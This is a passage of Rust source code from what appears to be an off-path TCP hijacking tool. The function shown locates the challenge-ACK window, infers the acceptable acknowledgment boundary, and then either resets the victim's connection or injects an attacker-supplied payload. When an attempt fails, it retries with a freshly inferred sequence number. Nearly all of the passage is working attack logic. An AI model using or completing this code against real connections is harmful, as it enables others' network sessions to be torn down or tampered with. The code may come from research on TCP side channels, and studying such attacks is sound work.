    // Step 4: acceptable acknowledgment number. The probe seq sits one
    // past rcv_nxt: still in-window, but a 1-byte acceptance there is
    // out of order and cannot move the window under the attacker.
    let seq_probe = sp.add(rcv_nxt, 1);
    report.outcome = Outcome::Failure(Phase::AckWindow);
    let ack_challenge = match attacker.locate_challenge_window(tuple, seq_probe)? {
        Some(a) => a,
        None => return Ok(Outcome::Failure(Phase::AckWindow)),
    };
    close_phase(report, Phase::AckWindow, attacker.io.now());

    report.outcome = Outcome::Failure(Phase::AckBoundary);
    let lower = match attacker.find_ack_lower_boundary(tuple, seq_probe, ack_challenge)? {
        Some(l) => l,
        None => return Ok(Outcome::Failure(Phase::AckBoundary)),
    };
    report.ack_lower_found = Some(lower);
    let ack_usable = match attacker.confirm_usable_ack(tuple, seq_probe, lower)? {
        Some(a) => a,
        None => return Ok(Outcome::Failure(Phase::AckBoundary)),
    };
    close_phase(report, Phase::AckBoundary, attacker.io.now());
    report.ack_usable = Some(ack_usable);

    // Final step: the payload action.
    report.outcome = Outcome::Failure(Phase::Action);
    let mut ok = false;
    let mut target = rcv_nxt;
    for attempt in 0..=cfg.seq_retries {
        ok = match action {
            AttackAction::Reset => attacker.hijack_reset(tuple, target)?,
            AttackAction::Inject { payload } => {
                attacker.hijack_inject(tuple, target, ack_usable, payload.clone())?
            }
        };
        if ok || attempt == cfg.seq_retries {
            break;
        }
        // State may have shifted since inference: re-infer and retry.
        match attacker.infer_seq(tuple)? {
            Some(fresh) => {
                report.rcv_nxt_found = Some(fresh);
                target = fresh;
            }
            None => break,
        }
    }
    close_phase(report, Phase::Action, attacker.io.now());
    if ok {
        Ok(Outcome::Success)
    } else {
        Ok(Outcome::Failure(Phase::Action))
    }
}
